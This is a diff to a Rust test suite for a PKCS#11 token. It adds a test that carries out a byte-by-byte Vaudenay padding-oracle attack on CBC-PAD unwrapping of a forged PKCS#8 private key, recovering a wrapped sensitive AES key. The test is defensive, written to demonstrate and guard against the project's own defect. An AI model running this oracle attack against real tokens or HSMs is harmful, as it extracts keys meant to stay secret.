@@ -12,42 +12,12 @@
 mod common;
 
 use common::mech::*;
-use common::raw::{Raw, RawAttr};
+use common::raw::RawAttr;
 use common::*;
 use cryptoki::mechanism::Mechanism;
 use cryptoki::object::{Attribute, AttributeType, KeyType, ObjectClass, ObjectHandle};
 use cryptoki::session::Session;
 use cryptoki_sys::*;
-
-/// The owner's key-encryption key of review 14g's scenario: an AES key that may wrap and
-/// unwrap, nothing else, and whose `CKA_UNWRAP_TEMPLATE` makes every key it unwraps
-/// sensitive and unextractable.
-fn owners_kek(session: &Session) -> ObjectHandle {
-    let f = Raw::load();
-    let kek_value = session.generate_random_vec(32).unwrap();
-    f.create_with_nested(
-        session.handle(),
-        &[
-            RawAttr::ulong(CKA_CLASS, CKO_SECRET_KEY),
-            RawAttr::ulong(CKA_KEY_TYPE, CKK_AES),
-            RawAttr::bool(CKA_TOKEN, false),
-            RawAttr::bool(CKA_SENSITIVE, true),
-            RawAttr::bool(CKA_EXTRACTABLE, false),
-            RawAttr::bool(CKA_ENCRYPT, false),
-            RawAttr::bool(CKA_DECRYPT, false),
-            RawAttr::bool(CKA_WRAP, true),
-            RawAttr::bool(CKA_UNWRAP, true),
-            RawAttr::new(CKA_VALUE, &kek_value),
-        ],
-        CKA_UNWRAP_TEMPLATE,
-        &[
-            RawAttr::bool(CKA_SENSITIVE, true),
-            RawAttr::bool(CKA_EXTRACTABLE, false),
-        ],
-    )
-    .map(handle)
-    .expect("C_CreateObject(KEK with an unwrap template)")
-}
 
 // ---------------------------------------------------------------------------------------
 // C_UnwrapKey(CBC-PAD, CBC): implicit rejection told apart by the IV's malleability
@@ -364,3 +334,161 @@ fn an_unextractable_key_is_not_recovered_through_one_byte_derived_keys() {
 // blocks and one block of a wrapped sensitive key (the PKCS#8 parse and the strict
 // padding answer differently, a Vaudenay oracle), is known and not fixed: it is in
 // commit 0c172f7, and docs/security.md ("Known limits") says why.
+
+// ---------------------------------------------------------------------------------------
+// C_UnwrapKey(CKM_AES_CBC_PAD) of a private key: the PKCS#8 path is a padding oracle
+// ---------------------------------------------------------------------------------------
+
+/// The block `c` the KEK encrypts `p` to, obtained by wrapping a key of the attacker's
+/// own whose value is `p` (one block, ECB): the attacker's encryption oracle.
+fn encrypt_block(ck: &Ck, session: &Session, kek: ObjectHandle, p: &[u8]) -> Vec<u8> {
+    let own = session
+        .create_object(&[
+            Attribute::Class(ObjectClass::SECRET_KEY),
+            Attribute::KeyType(KeyType::GENERIC_SECRET),
+            Attribute::Token(false),
+            Attribute::Sensitive(false),
+            Attribute::Extractable(true),
+            Attribute::Value(p.to_vec()),
+        ])
+        .unwrap();
+    let c = ck
+        .wrap(
+            session.handle(),
+            &RawMech::none(CKM_AES_ECB),
+            kek.handle(),
+            own.handle(),
+        )
+        .expect("C_WrapKey(CKM_AES_ECB) of the attacker's own key");
+    session.destroy_object(own).unwrap();
+    c
+}
+
+/// A PKCS#8 PrivateKeyInfo (version 0) of a P-256 key of scalar 0x11..11 whose
+/// `[0] attributes` hold the bytes up to `112 - pad`: the first 69 bytes are the
+/// structure, the rest up to byte 80 are known filler, and everything after (a block of
+/// garbage and the victim's block) is the attributes' content, which the PKCS#8 parser
+/// never reads. Only the first 80 bytes (five blocks) are returned: the rest comes from
+/// the ciphertext.
+fn pkcs8_prefix(pad: usize) -> Vec<u8> {
+    let content = 43 - pad;
+    let mut der = vec![0x30, (110 - pad) as u8, 0x02, 0x01, 0x00];
+    der.extend([
+        0x30, 0x13, 0x06, 0x07, 0x2A, 0x86, 0x48, 0xCE, 0x3D, 0x02, 0x01, 0x06, 0x08, 0x2A, 0x86,
+        0x48, 0xCE, 0x3D, 0x03, 0x01, 0x07,
+    ]);
+    der.extend([0x04, 0x27, 0x30, 0x25, 0x02, 0x01, 0x01, 0x04, 0x20]);
+    der.extend([0x11; 32]);
+    der.extend([0xA0, content as u8]);
+    assert_eq!(der.len(), 69);
+    der.resize(80, 0x5A);
+    der
+}
+
+/// Defect: `C_UnwrapKey(CKM_AES_CBC_PAD)` of a private key is a padding oracle that
+/// recovers a wrapped sensitive *secret* key. `mechanism/keypad.rs` `unpad` sends a
+/// private key's unwrap (`WrappedLen::Encoded`) to `strict_pkcs7`, which refuses a bad
+/// padding with `CKR_WRAPPED_KEY_INVALID`; a good padding goes on to the PKCS#8 parse,
+/// whose success makes a key (`CKR_OK`). The caller builds the blob: five blocks that
+/// decrypt to a valid PKCS#8 EC key up to the start of an `[0] attributes` field whose
+/// content the parser never reads (`pkcs8` skips it as raw bytes), then a chosen block
+/// (decrypting to garbage inside that field), then one block of the victim's wrapped
+/// key. The header's lengths say where the padding must start, so the unwrap succeeds
+/// exactly when the victim block's last `k` bytes, xored with the chosen block, are
+/// `k`: Vaudenay's oracle byte by byte, at most 256 unwraps a byte. The header blocks
+/// are made by wrapping keys of the attacker's own under the KEK (ECB, one block).
+///
+/// Same scenario as above (review 14g's): a KEK that wraps and unwraps only, with an
+/// unwrap template that makes what it unwraps sensitive; a sensitive AES key wrapped
+/// under it with `CKM_AES_CBC_PAD`.
+///
+/// Expected (docs/security.md attack table, Vaudenay's padding oracle on `C_UnwrapKey`
+/// with `CKM_AES_CBC_PAD` refused; the brief of f018b54: "the answer then does not
+/// depend on the padding"): the answer does not depend on the padding for a private key
+/// either (for instance CBC-PAD unwrap of a private key refused as `CKM_RSA_PKCS`'s is,
+/// `CKR_MECHANISM_INVALID`, or the padding judged into the same refusal only after a
+/// constant parse of a length that does not come from it). Actual: the wrapped sensitive
+/// key's 16 bytes are recovered exactly.
+#[test]
+fn cbc_pad_unwrap_of_a_private_key_is_no_padding_oracle() {
+    let env = TestEnv::new();
+    let (_ctx, _slot, session) = ready_token(&env);
+    let ck = Ck::load();
+    let kek = owners_kek(&session);
+    let secret_value = session.generate_random_vec(16).unwrap();
+    let secret = session
+        .create_object(&[
+            Attribute::Class(ObjectClass::SECRET_KEY),
+            Attribute::KeyType(KeyType::AES),
+            Attribute::Token(false),
+            Attribute::Sensitive(true),
+            Attribute::Extractable(true),
+            Attribute::Encrypt(true),
+            Attribute::Value(secret_value.clone()),
+        ])
+        .expect("C_CreateObject(sensitive AES key)");
+    let iv0 = [0x24u8; 16];
+    let wrapped = ck
+        .wrap(
+            session.handle(),
+            &RawMech::bytes(CKM_AES_CBC_PAD, &iv0),
+            kek.handle(),
+            secret.handle(),
+        )
+        .expect("C_WrapKey(CKM_AES_CBC_PAD)");
+    let victim = &wrapped[..16];
+    let private_template = [
+        RawAttr::ulong(CKA_CLASS, CKO_PRIVATE_KEY),
+        RawAttr::bool(CKA_TOKEN, false),
+        RawAttr::bool(CKA_SIGN, true),
+    ];
+    let iv = [0u8; 16];
+    // The five header blocks for a padding of `pad` bytes, as ciphertext under `iv`.
+    let header = |pad: usize| -> Vec<u8> {
+        let plain = pkcs8_prefix(pad);
+        let mut previous = iv.to_vec();
+        let mut out = Vec::new();
+        for block in plain.chunks(16) {
+            let x: Vec<u8> = block.iter().zip(&previous).map(|(a, b)| a ^ b).collect();
+            previous = encrypt_block(&ck, &session, kek, &x);
+            out.extend_from_slice(&previous);
+        }
+        out
+    };
+    let mut d = [0u8; 16];
+    for pos in (0..16).rev() {
+        let pad = 16 - pos;
+        let head = header(pad);
+        let mut found = None;
+        for guess in 0..=255u8 {
+            let mut chosen = [0u8; 16];
+            for j in pos + 1..16 {
+                chosen[j] = d[j] ^ pad as u8;
+            }
+            chosen[pos] = guess;
+            let blob = [&head[..], &chosen[..], victim].concat();
+            let answer = ck.unwrap(
+                session.handle(),
+                &RawMech::bytes(CKM_AES_CBC_PAD, &iv),
+                kek.handle(),
+                &blob,
+                &private_template,
+            );
+            if let Ok(key) = answer {
+                session.destroy_object(handle(key)).unwrap();
+                found = Some(guess ^ pad as u8);
+                break;
+            }
+        }
+        match found {
+            Some(b) => d[pos] = b,
+            None => break,
+        }
+    }
+    let recovered: Vec<u8> = d.iter().zip(&iv0).map(|(a, b)| a ^ b).collect();
+    assert!(
+        recovered != secret_value,
+        "C_UnwrapKey(CKM_AES_CBC_PAD) of a PKCS#8 private key answers by the padding: the \
+         oracle recovered the wrapped sensitive key"
+    );
+}
